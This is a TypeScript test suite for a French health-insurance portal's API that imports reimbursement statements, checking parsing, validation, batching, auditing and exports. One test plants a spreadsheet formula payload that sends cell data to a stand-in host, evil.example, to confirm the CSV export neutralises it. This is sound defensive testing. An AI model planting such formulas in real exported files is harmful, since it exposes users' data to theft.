import { readFileSync } from "node:fs";
import { connect } from "node:net";
import { Readable } from "node:stream";
import { desc, eq, like, ne } from "drizzle-orm";
import { auditLog } from "../../app/modules/audit/schema.ts";
import { bankAccount, person } from "../../app/modules/households/schema.ts";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { importReimbursementLines } from "../../app/modules/reimbursements/import/import-lines.server.ts";
import { type NumberedRecord, readRecords } from "../../app/modules/reimbursements/import/read-records.ts";
import { reimbursementLine, reimbursementLineRevision } from "../../app/modules/reimbursements/schema.ts";
import { demo, TestClient, visibleText } from "../support/http-client.ts";
import { startTestServer, type TestServer } from "../support/test-server.ts";
import { testClock } from "../support/clock.ts";

const token = "core-system-token-0123456789abcdef-xyz";
let server: TestServer;
beforeAll(async () => {
  server = await startTestServer({ env: { IMPORT_API_TOKEN: token } });
});
afterAll(() => server.close());

const header =
  "line_id,member_number,beneficiary_ref,care_type,care_date,payment_date,professional,charged_cents,base_cents,amo_rate_bp,amo_deductible_cents,amo_cents,amc_cents,guarantee_label,paid_to";

function post(body: BodyInit, { contentType = "text/csv", auth = `Bearer ${token}` } = {}) {
  return fetch(`${server.baseUrl}/api/v1/decomptes`, {
    method: "POST",
    headers: { "content-type": contentType, authorization: auth },
    body,
  });
}

describe("POST /api/v1/decomptes", () => {
  it("imports the documented example files", async () => {
    const csv = await post(new Uint8Array(readFileSync("docs/examples/decomptes-exemple.csv")));
    expect(csv.status).toBe(200);
    // The engine's check (ADR 0020) finds what the examples paid: GP OPTAM 30 € → 9,00 (the 2 € participation
    // stays, L160-13 II CSS); pharmacy at 65 % for a minor (no franchise) 23,14 − 15,04 = 8,10; the ostéopathie
    // line is sent without a category, so it is not recomputed.
    expect(await csv.json()).toMatchObject({
      read: 3,
      inserted: 3,
      updated: 0,
      unchanged: 0,
      rejected: 0,
      errors: [],
      pricingCheck: { matching: 2, different: 0, notComputed: 1 },
    });
    const jsonl = await post(new Uint8Array(readFileSync("docs/examples/decomptes-exemple.jsonl")), {
      contentType: "application/x-ndjson",
    });
    // Biology for an adult: 60 % × 45,60 = 27,36 − 2 € participation forfaitaire (L160-13 II CSS: "tout acte de
    // biologie médicale") = 25,36; 100 % BR y compris RO: 45,60 − 27,36 = 18,24; reste à charge 2,00. Pharmacy at
    // 65 % for a child (no franchise): 15,44 − 10,04 = 5,40.
    expect(await jsonl.json()).toMatchObject({
      read: 2,
      inserted: 2,
      rejected: 0,
      pricingCheck: { matching: 2, different: 0, notComputed: 0 },
    });
    // The member sees the new line, with the amounts and the reste à charge computed.
    const benoit = new TestClient(server.baseUrl);
    await benoit.signIn(demo.benoit.number, demo.benoit.password);
    const text = visibleText(await (await benoit.get("/remboursements?periode=2026&soin=osteopathie")).text());
    expect(text).toContain("Ostéopathie 50,00 € Soins de Sarah Mancion · versé le 29/09/2026 à Sarah");
    const [line] = await server.services.db
      .select()
      .from(reimbursementLine)
      .where(eq(reimbursementLine.sourceLineId, "NOE-2026-0000003"));
    expect(line).toMatchObject({
      chargedCents: 6000,
      amcCents: 5000,
      remainingCents: 1000,
      paidTo: "beneficiary",
      version: 1,
    });
    // On PostgreSQL new lines are written by COPY with time-ordered ids (UUID version 7); on PGlite the
    // database's default gives a version 4. Either opens the line's page.
    expect(line!.id).toMatch(
      process.env.TEST_DB === "postgres"
        ? /^[0-9a-f]{8}-[0-9a-f]{4}-7[0-9a-f]{3}-[89ab]/
        : /^[0-9a-f]{8}-[0-9a-f]{4}-4/,
    );
    const detail = await benoit.get(`/remboursements/${line!.id}`);
    expect(detail.status).toBe(200);
    expect(visibleText(await detail.text())).toContain("Ostéopathie");
  });

  it("is idempotent, and keeps the history of a corrected line", async () => {
    const body = `${header}\nIDEM-1,10000001,10000001-01,pharmacie,2026-10-01,2026-10-03,,1000,1000,6500,,650,350,,member\n`;
    expect(await (await post(body)).json()).toMatchObject({ inserted: 1, updated: 0, unchanged: 0 });
    expect(await (await post(body)).json()).toMatchObject({ inserted: 0, updated: 0, unchanged: 1 });
    const corrected = body.replace("1000,1000,6500,,650,350", "1200,1000,6500,,650,350");
    expect(await (await post(corrected)).json()).toMatchObject({ inserted: 0, updated: 1, unchanged: 0 });
    const [line] = await server.services.db
      .select()
      .from(reimbursementLine)
      .where(eq(reimbursementLine.sourceLineId, "IDEM-1"));
    expect(line).toMatchObject({ chargedCents: 1200, remainingCents: 200, version: 2 });
    const history = await server.services.db
      .select()
      .from(reimbursementLineRevision)
      .where(eq(reimbursementLineRevision.lineId, line!.id));
    expect(history).toHaveLength(1);
    expect(history[0]).toMatchObject({
      version: 1,
      snapshot: expect.objectContaining({ charged_cents: 1000, remaining_cents: 0 }),
    });
  });

  it("rejects bad lines with their line number and reason, and takes the good ones", async () => {
    const lines = [
      header,
      "OK-1,10000002,10000002-02,pharmacie,2026-10-01,2026-10-03,,1000,1000,6500,,650,350,,member", // line 2: good
      "BAD-1,10000009,10000009-01,pharmacie,2026-10-01,2026-10-03,,1000,1000,6500,,650,350,,member", // 3: unknown
      "BAD-2,10000002,10000001-02,pharmacie,2026-10-01,2026-10-03,,1000,1000,6500,,650,350,,member", // 4: other contract
      "BAD-3,10000002,10000002-02,pharmacie,2026-10-01,2026-10-03,,-5,1000,6500,,650,350,,member", // 5: negative
      "BAD-4,10000002,10000002-02,pharmacie,2026-10-01,2026-10-03,,1000,1000,6500,,700,350,,member", // 6: AMO+AMC > charged
      "BAD-5,10000002,10000002-02,pharmacie,2026-02-30,2026-10-03,,1000,1000,6500,,650,350,,member", // 7: no such date
      "BAD-6,10000002,10000002-02,dentiste,2026-10-01,2026-10-03,,1000,1000,6500,,650,350,,member", // 8: care type
      "BAD-7,10000002,10000002-02,pharmacie,2026-10-05,2026-10-03,,1000,1000,6500,,650,350,,member", // 9: paid before care
    ];
    const latin1 = Buffer.from(
      "BAD-8,10000002,10000002-02,pharmacie,2026-10-01,2026-10-03,Dr Hél\xe8ne,1000,1000,6500,,650,350,,member",
      "latin1",
    ); // 10
    const body = new Uint8Array(Buffer.concat([Buffer.from(`${lines.join("\n")}\n`), latin1, Buffer.from("\n")]));
    const res = await post(body);
    expect(res.status).toBe(200);
    const summary = await res.json();
    expect(summary).toMatchObject({ read: 9, inserted: 1, rejected: 8 });
    expect(summary.errors).toEqual([
      { line: 3, reason: "bénéficiaire inconnu : 10000009-01" },
      { line: 4, reason: "le bénéficiaire 10000001-02 n'appartient pas au contrat 10000002" },
      { line: 5, reason: "charged_cents : montant négatif" },
      { line: 6, reason: "montants incohérents : amo_cents + amc_cents dépasse charged_cents" },
      { line: 7, reason: "care_date : date inexistante" },
      { line: 8, reason: "care_type inconnu" },
      { line: 9, reason: "payment_date est avant care_date" },
      { line: 10, reason: "encodage invalide : le fichier doit être en UTF-8" },
    ]);
    const rejectedIds = await server.services.db
      .select()
      .from(reimbursementLine)
      .where(eq(reimbursementLine.sourceLineId, "BAD-1"));
    expect(rejectedIds).toHaveLength(0);
  });

  it("answers 422 when nothing could be imported, and reads unreadable JSON lines as rejections", async () => {
    const res = await post('{"line_id": \n', { contentType: "application/x-ndjson" });
    expect(res.status).toBe(422);
    expect(await res.json()).toMatchObject({ read: 1, rejected: 1, errors: [{ line: 1, reason: "JSON illisible" }] });
  });

  it("refuses a missing or wrong token, another content type, and is absent without a configured token", async () => {
    expect((await post(`${header}\n`, { auth: "" })).status).toBe(401);
    expect((await post(`${header}\n`, { auth: "Bearer not-the-token" })).status).toBe(401);
    expect((await post("<xml/>", { contentType: "application/xml" })).status).toBe(415);
    const plain = await startTestServer();
    try {
      const res = await fetch(`${plain.baseUrl}/api/v1/decomptes`, {
        method: "POST",
        headers: { authorization: `Bearer ${token}`, "content-type": "text/csv" },
        body: header,
      });
      expect(res.status).toBe(404);
    } finally {
      await plain.close();
    }
  });
});

describe("a bad line does not stop the import", () => {
  it("refuses an unclosed quote, a NUL and a control character at lines 11,001–11,003 of 12,000, imports every line before and after, and audits it", async () => {
    const lines = [header];
    const professional = (n: number) =>
      n === 11_001 ? '"Dr Martin' : n === 11_002 ? "Dr\u0000Martin" : n === 11_003 ? "Dr\u0001Martin" : "";
    for (let n = 2; n <= 12_000; n++)
      lines.push(
        `BIG-${n},10000002,10000002-01,pharmacie,2026-08-10,2026-08-12,${professional(n)},1000,1000,6500,,650,350,,member`,
      );
    const res = await post(`${lines.join("\n")}\n`);
    expect(res.status).toBe(200);
    const summary = await res.json();
    expect(summary).toMatchObject({
      read: 11_999,
      accepted: 11_996,
      inserted: 11_996,
      rejected: 3,
      errorsNotListed: 0,
    });
    expect(summary.errors).toEqual([
      { line: 11_001, reason: "guillemet non fermé : la ligne est illisible" },
      { line: 11_002, reason: "professional : caractère de contrôle interdit (U+0000)" },
      { line: 11_003, reason: "professional : caractère de contrôle interdit (U+0001)" },
    ]);
    const imported = await server.services.db
      .select({ id: reimbursementLine.sourceLineId })
      .from(reimbursementLine)
      .where(like(reimbursementLine.sourceLineId, "BIG-%"));
    const ids = new Set(imported.map((l) => l.id));
    expect(ids.size).toBe(11_996);
    expect(["BIG-2", "BIG-11000", "BIG-11004", "BIG-12000"].every((id) => ids.has(id))).toBe(true);
    expect(["BIG-11001", "BIG-11002", "BIG-11003"].some((id) => ids.has(id))).toBe(false);
    const [audit] = await server.services.db
      .select()
      .from(auditLog)
      .where(eq(auditLog.action, "import.decomptes"))
      .orderBy(desc(auditLog.id))
      .limit(1);
    expect(audit).toMatchObject({
      outcome: "success",
      details: { source: "api", read: 11_999, inserted: 11_996, rejected: 3, firstRejectedLine: 11_001 },
    });
  });

  it("refuses a NUL and a half surrogate pair in JSON Lines, and takes the next line", async () => {
    const record = (id: string, professional: string) => ({
      line_id: id,
      member_number: "10000002",
      beneficiary_ref: "10000002-01",
      care_type: "pharmacie",
      care_date: "2026-08-10",
      payment_date: "2026-08-13",
      professional,
      charged_cents: 1000,
      base_cents: 1000,
      amo_cents: 650,
      amc_cents: 350,
      paid_to: "member",
    });
    const body = [record("JNUL-1", "Dr\u0000"), record("JNUL-2", "Dr \uD800"), record("JNUL-3", "Dr Martin")]
      .map((r) => JSON.stringify(r))
      .join("\n");
    const summary = await (await post(body, { contentType: "application/x-ndjson" })).json();
    expect(summary).toMatchObject({ read: 3, inserted: 1, rejected: 2 });
    expect(summary.errors).toEqual([
      { line: 1, reason: "professional : caractère de contrôle interdit (U+0000)" },
      { line: 2, reason: "professional : caractère Unicode invalide" },
    ]);
  });

  it("refuses a CSV file whose header lacks columns with 422 and a French message, and audits the failure", async () => {
    const res = await post("id;montant\n1;2\n");
    expect(res.status).toBe(422);
    expect(await res.json()).toEqual({
      error:
        "Fichier illisible : en-tête (ligne 1) : colonnes manquantes : line_id, member_number, beneficiary_ref, care_type, care_date, payment_date, charged_cents, base_cents, amo_cents, amc_cents, paid_to. Rien n'a été importé.",
    });
    const [audit] = await server.services.db
      .select()
      .from(auditLog)
      .where(eq(auditLog.action, "import.decomptes"))
      .orderBy(desc(auditLog.id))
      .limit(1);
    expect(audit).toMatchObject({ outcome: "failure", details: { source: "api", reason: "UnreadableImportError" } });
  });
});

describe("a connection cut in the middle of the body", () => {
  it("ends the import as a failure in the audit log, keeps the whole batches already written, and the portal goes on serving", async () => {
    const { port } = new URL(server.baseUrl);
    const socket = connect(Number(port), "127.0.0.1");
    await new Promise((resolve) => socket.once("connect", resolve));
    socket.write(
      `POST /api/v1/decomptes HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nAuthorization: Bearer ${token}\r\nContent-Type: text/csv\r\nContent-Length: 100000000\r\n\r\n${header}\n`,
    );
    // One whole batch (5,000 lines), then half a line: the body stops there, with more announced.
    const rows = Array.from(
      { length: 5000 },
      (_, i) => `CUT-${i},10000002,10000002-01,pharmacie,2026-08-10,2026-08-16,,1000,1000,6500,,650,350,,member`,
    );
    socket.write(`${rows.join("\n")}\nCUT-5000,1000`);
    const written = async () =>
      (
        await server.services.db
          .select({ id: reimbursementLine.id })
          .from(reimbursementLine)
          .where(like(reimbursementLine.sourceLineId, "CUT-%"))
      ).length;
    // The server is reading this body once the first batch is in the database: cut the connection then.
    await vi.waitFor(
      async () => {
        expect(await written()).toBe(5000);
      },
      { timeout: 25_000, interval: 50 },
    );
    socket.destroy();
    await vi.waitFor(
      async () => {
        const [audit] = await server.services.db
          .select()
          .from(auditLog)
          .where(eq(auditLog.action, "import.decomptes"))
          .orderBy(desc(auditLog.id))
          .limit(1);
        expect(audit).toMatchObject({ outcome: "failure", details: { source: "api" } });
      },
      { timeout: 25_000, interval: 50 },
    );
    expect(await written()).toBe(5000);
    expect((await fetch(`${server.baseUrl}/healthz`)).status).toBe(200);
  });
});

describe("a very long line", () => {
  it("refuses 16 MB without a newline as line 1 too long, answers /healthz while that body is still open, and imports the line after it", async () => {
    const events: string[] = [];
    const after = JSON.stringify({
      line_id: "LONG-2",
      member_number: "10000002",
      beneficiary_ref: "10000002-01",
      care_type: "pharmacie",
      care_date: "2026-08-10",
      payment_date: "2026-08-14",
      charged_cents: 1000,
      base_cents: 1000,
      amo_cents: 650,
      amc_cents: 350,
      paid_to: "member",
    });
    const megabyte = new Uint8Array(1024 * 1024).fill(0x78);
    let sent = 0;
    // The body stays open until /healthz has answered: the server must serve it in the middle of the import.
    const body = new ReadableStream<Uint8Array>({
      async pull(controller) {
        if (sent < 16) {
          sent += 1;
          controller.enqueue(megabyte);
          return;
        }
        events.push("16 MB sent");
        const health = await fetch(`${server.baseUrl}/healthz`);
        events.push(`healthz ${health.status}`);
        controller.enqueue(new TextEncoder().encode(`\n${after}\n`));
        controller.close();
      },
    });
    const res = await fetch(`${server.baseUrl}/api/v1/decomptes`, {
      method: "POST",
      headers: { "content-type": "application/x-ndjson", authorization: `Bearer ${token}` },
      body,
      duplex: "half",
    } as RequestInit);
    events.push(`import ${res.status}`);
    expect(events).toEqual(["16 MB sent", "healthz 200", "import 200"]);
    expect(await res.json()).toMatchObject({
      read: 2,
      inserted: 1,
      rejected: 1,
      errors: [{ line: 1, reason: "ligne trop longue : 65536 octets au plus" }],
    });
    expect(
      await server.services.db.select().from(reimbursementLine).where(eq(reimbursementLine.sourceLineId, "LONG-2")),
    ).toHaveLength(1);
  });
});

describe("amounts", () => {
  it("refuses an empty amount, 0x10, 1e3, a leading space, a decimal comma or point in CSV, each with its reason in French", async () => {
    const row = (id: string, charged: string) =>
      `AMT-${id},10000002,10000002-01,pharmacie,2026-08-10,2026-08-15,,${charged},1000,6500,,0,0,,member`;
    const body = [
      header,
      row("1", ""),
      row("2", "0x10"),
      row("3", "1e3"),
      row("4", '" 12"'),
      row("5", '"12,5"'),
      row("6", "12.50"),
      row("7", "1250"),
    ].join("\n");
    const summary = await (await post(body)).json();
    expect(summary).toMatchObject({ read: 7, inserted: 1, rejected: 6 });
    const digitsOnly =
      "charged_cents : nombre entier attendu, en chiffres uniquement (sans espace, signe ni exposant) (montant en centimes : 12,50 € s'écrit 1250)";
    const noSeparator =
      "charged_cents : nombre entier attendu, sans virgule ni point (montant en centimes : 12,50 € s'écrit 1250)";
    expect(summary.errors).toEqual([
      { line: 2, reason: "charged_cents manquant (montant en centimes : 12,50 € s'écrit 1250)" },
      { line: 3, reason: digitsOnly },
      { line: 4, reason: digitsOnly },
      { line: 5, reason: digitsOnly },
      { line: 6, reason: noSeparator },
      { line: 7, reason: noSeparator },
    ]);
    const [line] = await server.services.db
      .select()
      .from(reimbursementLine)
      .where(eq(reimbursementLine.sourceLineId, "AMT-7"));
    expect(line).toMatchObject({ chargedCents: 1250 });
  });

  it("takes a JSON whole number of cents, and refuses a JSON number with a fraction (12.5, or a float artefact)", async () => {
    const record = (id: string, charged: unknown) =>
      JSON.stringify({
        line_id: `JAMT-${id}`,
        member_number: "10000002",
        beneficiary_ref: "10000002-01",
        care_type: "pharmacie",
        care_date: "2026-08-10",
        payment_date: "2026-08-15",
        charged_cents: charged,
        base_cents: 1000,
        amo_cents: 0,
        amc_cents: 0,
        paid_to: "member",
      });
    const body = [
      record("1", 1250),
      record("2", "1250"),
      record("3", 12.5),
      record("4", 0.1 * 3 * 100),
      record("5", ""),
    ].join("\n");
    const summary = await (await post(body, { contentType: "application/x-ndjson" })).json();
    expect(summary).toMatchObject({ read: 5, inserted: 2, rejected: 3 });
    const fraction =
      "charged_cents : nombre entier attendu, sans décimales (montant en centimes : 12,50 € s'écrit 1250)";
    expect(summary.errors).toEqual([
      { line: 3, reason: fraction },
      { line: 4, reason: fraction },
      { line: 5, reason: "charged_cents manquant (montant en centimes : 12,50 € s'écrit 1250)" },
    ]);
  });
});

describe("the member's CSV export", () => {
  it("makes a professional's name that starts like a formula inert in the downloaded CSV", async () => {
    const professional = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")';
    const record = {
      line_id: "CSVINJ-1",
      member_number: "10000001",
      beneficiary_ref: "10000001-01",
      care_type: "audiologie",
      care_date: "2026-08-20",
      payment_date: "2026-08-22",
      professional,
      charged_cents: 1000,
      base_cents: 1000,
      amo_cents: 600,
      amc_cents: 400,
      paid_to: "professional",
    };
    expect(await (await post(JSON.stringify(record), { contentType: "application/x-ndjson" })).json()).toMatchObject({
      inserted: 1,
    });
    const benoit = new TestClient(server.baseUrl);
    await benoit.signIn(demo.benoit.number, demo.benoit.password);
    const csv = await (await benoit.get("/remboursements/export.csv?periode=2026&soin=audiologie")).text();
    const row = csv.split("\r\n").find((l) => l.includes("HYPERLINK"));
    expect(row).toMatch(/^22\/08\/2026;20\/08\/2026;[^;]+;Audiologie;/);
    expect(row).toContain(
      ';"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Cliquez ici"")";10,00;10,00;6,00;4,00;0,00;Professionnel de santé (tiers payant)',
    );
  });
});

describe("an interrupted import", () => {
  it("leaves whole batches only, and running it again completes it", async () => {
    const record = (i: number) => ({
      line: i + 2,
      raw: {
        line_id: `INT-${i}`,
        member_number: "10000002",
        beneficiary_ref: "10000002-01",
        care_type: "pharmacie",
        care_date: "2026-10-10",
        payment_date: "2026-10-12",
        charged_cents: 1000,
        base_cents: 1000,
        amo_cents: 650,
        amc_cents: 350,
        paid_to: "member",
      },
    });
    async function* failingAfter(n: number): AsyncGenerator<NumberedRecord> {
      for (let i = 0; i < 7; i++) {
        if (i === n) throw new Error("connection lost");
        yield record(i);
      }
    }
    await expect(
      importReimbursementLines(server.services.db, failingAfter(5), { clock: testClock, batchSize: 3 }),
    ).rejects.toThrow("connection lost");
    const count = async () =>
      (await server.services.db.select().from(reimbursementLine).where(like(reimbursementLine.sourceLineId, "INT-%")))
        .length; // not by date: demo lines move with the clock
    expect(await count()).toBe(3); // batch 1 (lines 0-2) committed; lines 3-4 never written
    async function* all(): AsyncGenerator<NumberedRecord> {
      for (let i = 0; i < 7; i++) yield record(i);
    }
    expect(await importReimbursementLines(server.services.db, all(), { clock: testClock, batchSize: 3 })).toMatchObject(
      { inserted: 4, unchanged: 3 },
    );
    expect(await count()).toBe(7);
  });

  it("writes a line corrected later in the file last, though batches are written at once (PostgreSQL)", async () => {
    const record = (i: number, id: string, charged: number) => ({
      line: i + 2,
      raw: {
        line_id: id,
        member_number: "10000002",
        beneficiary_ref: "10000002-01",
        care_type: "pharmacie",
        care_date: "2026-10-14",
        payment_date: "2026-10-16",
        charged_cents: charged,
        base_cents: 1000,
        amo_cents: 650,
        amc_cents: 350,
        paid_to: "member",
      },
    });
    const file = [
      record(0, "ORD-1", 1000),
      record(1, "ORD-2", 1000),
      record(2, "ORD-3", 1000),
      record(3, "ORD-4", 1000),
      record(4, "ORD-1", 1200),
      record(5, "ORD-5", 1000),
      record(6, "ORD-6", 1000),
      record(7, "ORD-1", 1400),
    ];
    async function* records(): AsyncGenerator<NumberedRecord> {
      yield* file;
    }
    // Batches of two: the four batches go out up to three at once on PostgreSQL; ORD-1's versions must land in file order.
    expect(
      await importReimbursementLines(server.services.db, records(), { clock: testClock, batchSize: 2 }),
    ).toMatchObject({ read: 8, inserted: 6, updated: 2, rejected: 0 });
    const [line] = await server.services.db
      .select()
      .from(reimbursementLine)
      .where(eq(reimbursementLine.sourceLineId, "ORD-1"));
    expect(line).toMatchObject({ chargedCents: 1400, remainingCents: 400, version: 3 });
    const history = await server.services.db
      .select()
      .from(reimbursementLineRevision)
      .where(eq(reimbursementLineRevision.lineId, line!.id));
    expect(history.map((h) => [h.version, (h.snapshot as { charged_cents: number }).charged_cents]).sort()).toEqual([
      [1, 1000],
      [2, 1200],
    ]);
  });

  it("gives exactly one line per line_id when two imports of the same file run at once", async () => {
    const rows = Array.from(
      { length: 40 },
      (_, i) => `RACE-${i},10000002,10000002-01,pharmacie,2026-10-20,2026-10-22,,1000,1000,6500,,650,350,,member`,
    );
    const body = `${header}\n${rows.join("\n")}\n`;
    const [a, b] = await Promise.all([post(body), post(body)]);
    const [sa, sb] = [await a.json(), await b.json()];
    expect(sa.inserted + sb.inserted).toBe(40);
    expect(sa.rejected + sb.rejected).toBe(0);
    const lines = await server.services.db
      .select()
      .from(reimbursementLine)
      .where(like(reimbursementLine.sourceLineId, "RACE-%"));
    expect(lines).toHaveLength(40);
  });

  it("keeps text exactly as sent: backslashes, tabs, line breaks, quotes and accents (PostgreSQL writes new lines with COPY)", async () => {
    const professional = 'Cabinet \\ "Les Tilleuls"\tBât. B\nÉtage 2\r\\N';
    const label = "Forfait \\t 100 % Santé";
    const record = {
      line_id: "ESC-1",
      member_number: "10000002",
      beneficiary_ref: "10000002-01",
      care_type: "pharmacie",
      care_date: "2026-10-05",
      payment_date: "2026-10-07",
      professional,
      charged_cents: 1000,
      base_cents: 1000,
      amo_rate_bp: 6500,
      amo_cents: 650,
      amc_cents: 350,
      guarantee_label: label,
      paid_to: "professional",
    };
    const res = await post(`${JSON.stringify(record)}\n`, { contentType: "application/x-ndjson" });
    expect(await res.json()).toMatchObject({ inserted: 1, rejected: 0 });
    const [line] = await server.services.db
      .select()
      .from(reimbursementLine)
      .where(eq(reimbursementLine.sourceLineId, "ESC-1"));
    expect(line).toMatchObject({
      professionalName: professional,
      guaranteeLabel: label,
      paidTo: "professional",
      paidToPersonId: null,
      bankAccountId: null,
      remainingCents: 0,
    });
    // The same line again is recognised as unchanged, not inserted twice nor "corrected".
    expect(
      await (await post(`${JSON.stringify(record)}\n`, { contentType: "application/x-ndjson" })).json(),
    ).toMatchObject({ inserted: 0, updated: 0, unchanged: 1 });
  });

  it("reads CSV with ';' separators and a BOM too", async () => {
    const csv = `\uFEFF${header.replaceAll(",", ";")}\nSEMI-1;10000002;10000002-01;pharmacie;2026-10-01;2026-10-03;;1000;1000;6500;;650;350;;member\n`;
    const summary = await importReimbursementLines(server.services.db, readRecords(Readable.from([csv]), "csv"), {
      clock: testClock,
    });
    expect(summary).toMatchObject({ read: 1, inserted: 1, rejected: 0 });
  });
});

describe("the database itself", () => {
  it("refuses a line whose beneficiary, payee or bank account belongs to another household", async () => {
    const { db } = server.services;
    const [benoitLine] = await db.select().from(reimbursementLine).limit(1);
    const [stranger] = await db.select().from(person).where(ne(person.householdId, benoitLine!.householdId)).limit(1);
    const [strangerAccount] = await db
      .select()
      .from(bankAccount)
      .where(ne(bankAccount.householdId, benoitLine!.householdId))
      .limit(1);
    expect(stranger && strangerAccount).toBeTruthy();
    const { id: _id, ...line } = benoitLine!;
    const attempt = (changes: Partial<typeof line>, n: number) =>
      db.insert(reimbursementLine).values({ ...line, ...changes, sourceLineId: `FK-TEST-${n}` });
    await expect(attempt({ beneficiaryId: stranger!.id }, 1)).rejects.toMatchObject({
      cause: { message: expect.stringMatching(/violates foreign key constraint/) },
    });
    await expect(attempt({ paidTo: "beneficiary", paidToPersonId: stranger!.id }, 2)).rejects.toMatchObject({
      cause: { message: expect.stringMatching(/violates foreign key constraint/) },
    });
    await expect(attempt({ bankAccountId: strangerAccount!.id }, 3)).rejects.toMatchObject({
      cause: { message: expect.stringMatching(/violates foreign key constraint/) },
    });
    // The same line with its own household's people and no account goes in.
    await attempt({ bankAccountId: null }, 4);
    expect(
      await db
        .select({ id: reimbursementLine.id })
        .from(reimbursementLine)
        .where(like(reimbursementLine.sourceLineId, "FK-TEST-%")),
    ).toHaveLength(1);
  });
});
